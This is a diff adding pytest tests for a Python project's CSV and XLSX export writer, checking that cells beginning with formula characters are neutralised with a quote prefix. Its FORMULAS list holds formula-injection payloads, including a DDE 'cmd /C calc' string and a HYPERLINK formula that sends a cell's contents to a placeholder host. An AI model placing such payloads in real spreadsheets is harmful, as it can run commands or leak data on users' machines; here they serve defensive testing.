@@ -5,6 +5,7 @@ from __future__ import annotations
 import codecs
 import datetime as dt
 import io
+from decimal import Decimal
 
 import pytest
 from openpyxl import Workbook
@@ -94,3 +95,127 @@ def test_it_writes_csv_with_a_bom_and_xlsx_that_read_back():
     out = io.BytesIO()
     assert write_xlsx(out, ["no", "name", "x"], iter(rows)) == 1
     assert read_table(out.getvalue()).rows == [(2, ["E1", "张伟", None])]
+
+
+# --- the export writer: formulas neutralised, any value written --------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://x/?"&B2,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "＝1+1",
+    "=",
+]
+HARMLESS = ["Grace", "-5", "+1.5", "-.5", "1e3", "a=b", "", "'quoted"]
+
+
+def _csv_cells(data: bytes) -> list[list[str]]:
+    import csv
+
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def _xlsx_cells(data: bytes):
+    from openpyxl import load_workbook
+
+    return list(load_workbook(io.BytesIO(data)).active.iter_rows())
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_it_neutralises_a_formula_in_a_csv_cell_and_a_header(text):
+    out = io.BytesIO()
+    write_csv(out, [text], iter([[text]]))
+    assert _csv_cells(out.getvalue()) == [["'" + text], ["'" + text]]
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_it_leaves_plain_text_and_numbers_alone_in_csv(text):
+    out = io.BytesIO()
+    write_csv(out, ["h"], iter([[text]]))
+    assert _csv_cells(out.getvalue())[1] == [text]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_it_writes_a_formula_as_quoted_text_in_xlsx(text):
+    out = io.BytesIO()
+    write_xlsx(out, [text], iter([[text]]))
+    for row in _xlsx_cells(out.getvalue()):
+        (cell,) = row
+        # (XML reads a carriage return back as a line feed)
+        expected = text.replace("\r", "\n")
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
+
+
+def test_it_writes_an_error_code_as_text_in_xlsx():
+    out = io.BytesIO()
+    write_xlsx(out, ["h"], iter([["#N/A"]]))
+    cell = _xlsx_cells(out.getvalue())[1][0]
+    assert (cell.value, cell.data_type) == ("#N/A", "s")
+
+
+def test_it_reads_back_a_neutralised_csv_cell_as_the_text_itself():
+    from gmassist.lib.tabular import neutralise_formula, unescape_formula
+
+    for text in FORMULAS + HARMLESS:
+        assert unescape_formula(neutralise_formula(text)) == text
+
+
+class _Lazy:
+    """Like a lazy translation: not a str, but has one."""
+
+    def __str__(self) -> str:
+        return "Title"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_it_writes_any_value_a_page_may_give(fmt):
+    from gmassist.lib.tabular import write_table
+
+    shanghai = dt.timezone(dt.timedelta(hours=8))
+    row = [
+        {"b": "=1+1", "a": [1, "x"]},
+        dt.datetime(2026, 1, 2, 3, 4, tzinfo=dt.UTC),
+        dt.date(2026, 1, 2),
+        Decimal("1200.00"),
+        True,
+        None,
+        "bell\x07and\x00nul",
+    ]
+    out = io.BytesIO()
+    assert write_table(out, fmt, [_Lazy(), "b", "c", "d", "e", "f", "g"], iter([row]), tz=shanghai)
+    if fmt == "csv":
+        assert _csv_cells(out.getvalue()) == [
+            ["Title", "b", "c", "d", "e", "f", "g"],
+            [
+                '{"a": [1, "x"], "b": "=1+1"}',
+                "2026-01-02T11:04:00",
+                "2026-01-02",
+                "1200",
+                "True",
+                "",
+                "bell\x07and\x00nul",
+            ],
+        ]
+    else:
+        header, cells = ([c.value for c in r] for r in _xlsx_cells(out.getvalue()))
+        assert header == ["Title", "b", "c", "d", "e", "f", "g"]
+        assert cells == [
+            '{"a": [1, "x"], "b": "=1+1"}',
+            dt.datetime(2026, 1, 2, 11, 4),
+            dt.datetime(2026, 1, 2),
+            1200,
+            True,
+            None,
+            "bell\ufffdand\ufffdnul",
+        ]
+
+
+def test_it_cuts_an_xlsx_cell_at_excels_limit():
+    out = io.BytesIO()
+    write_xlsx(out, ["h"], iter([["x" * 40_000]]))
+    value = _xlsx_cells(out.getvalue())[1][0].value
+    assert (len(value), value[-1]) == (32_767, "\u2026")
